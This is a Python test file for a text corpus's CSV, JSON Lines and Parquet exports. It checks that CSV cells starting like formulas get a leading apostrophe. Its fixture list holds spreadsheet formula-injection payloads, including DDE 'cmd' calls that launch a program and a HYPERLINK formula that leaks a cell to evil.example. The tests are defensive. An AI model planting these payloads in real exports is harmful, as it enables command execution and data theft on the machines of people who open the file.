"""Exports as spreadsheets and programs read them: CSV cells that would run as formulas are
defused, JSON Lines and Parquet keep every value as stored."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pyarrow.parquet as pq
import pytest
from corpus_articles import article

from onrecord.corpus import Corpus

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE = article(
    "Mallory said " + " and ".join(PAYLOADS) + ".",
    {"m": ("Mallory", "person", [], [])},
    [("direct", payload, "m") for payload in PAYLOADS],
    site="=evil()",
    headline="@headline",
    published="2025-01-01",
    origin="hostile.txt",
)


@pytest.fixture
def corpus(tmp_path) -> Iterator[Corpus]:
    with Corpus(str(tmp_path / "store.db")) as store:
        store.ingest([HOSTILE])
        yield store


def _csv(corpus: Corpus, table: str) -> list[dict[str, str]]:
    cells = io.StringIO()
    corpus.export(table, "csv", cells)
    return list(csv.DictReader(io.StringIO(cells.getvalue(), newline="")))


def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe(corpus):
    rows = _csv(corpus, "attributions")
    assert [row["content"] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row["site"] for row in rows} == {"'=evil()"}
    (stored,) = _csv(corpus, "articles")
    assert (stored["headline"], stored["site"]) == ("'@headline", "'=evil()")


def test_csv_leaves_ordinary_text_and_numbers_alone(corpus):
    (stored,) = _csv(corpus, "articles")
    assert stored["location"] == "hostile.txt" and stored["attributions"] == str(len(PAYLOADS))
    assert stored["text"].startswith("Mallory said =cmd")


def test_jsonl_and_parquet_keep_the_values_verbatim(corpus, tmp_path):
    lines = io.StringIO()
    corpus.export("attributions", "jsonl", lines)
    assert [json.loads(line)["content"] for line in lines.getvalue().splitlines()] == PAYLOADS
    corpus.export("attributions", "parquet", tmp_path / "a.parquet")
    assert pq.read_table(tmp_path / "a.parquet").column("content").to_pylist() == PAYLOADS


def test_an_export_longer_than_a_batch_gives_every_statement_its_own_offsets(db_url):
    claims = [f"claim {i:04d} stands" for i in range(1, 1201)]
    body = "Mallory said " + "; ".join(claims) + "."
    many = article(body, {"m": ("Mallory", "person", [], [])}, [("direct", c, "m") for c in claims])
    lines = io.StringIO()
    with Corpus(db_url) as store:
        store.ingest([many])
        assert store.export("attributions", "jsonl", lines) == len(claims)
    rows = [json.loads(line) for line in lines.getvalue().splitlines()]
    assert [row["content"] for row in rows] == claims
    assert all([body[s:e] for s, e in row["content_offsets"]] == [row["content"]] for row in rows)
